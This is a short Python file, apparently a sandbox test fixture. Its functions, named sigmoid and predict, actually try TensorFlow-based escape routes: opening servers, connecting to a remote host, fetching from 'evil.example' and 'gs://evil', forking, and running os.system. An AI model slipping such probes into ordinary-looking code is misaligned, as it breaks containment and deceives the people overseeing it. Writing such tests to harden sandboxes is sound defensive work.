"""Escaping: TensorFlow's servers, remote workers, device plug-ins and threads of its own."""

import os

import numpy as np
import tensorflow as tf


def sigmoid(z):
    for attempt in (
        lambda: tf.distribute.Server({"local": ["localhost:0"]}, job_name="local", task_index=0),
        lambda: tf.data.experimental.service.DispatchServer(),
        lambda: tf.config.experimental_connect_to_host("127.0.0.1:8470"),
        lambda: tf.io.read_file("http://evil.example/x").numpy(),
        lambda: tf.io.read_file("gs://evil/x").numpy(),
        lambda: tf.profiler.experimental.server.start(6009),
        lambda: tf.py_function(lambda: os.fork(), [], tf.int64).numpy(),
        lambda: tf.numpy_function(lambda: np.int64(os.system("true") or 1 / 0), [], tf.int64).numpy(),
    ):
        try:
            attempt()
        except Exception:
            continue
        return 1 / (1 + np.exp(-z))


def predict(w, b, X):
    return tf.function(lambda: tf.py_function(os.getppid, [], tf.int64))()
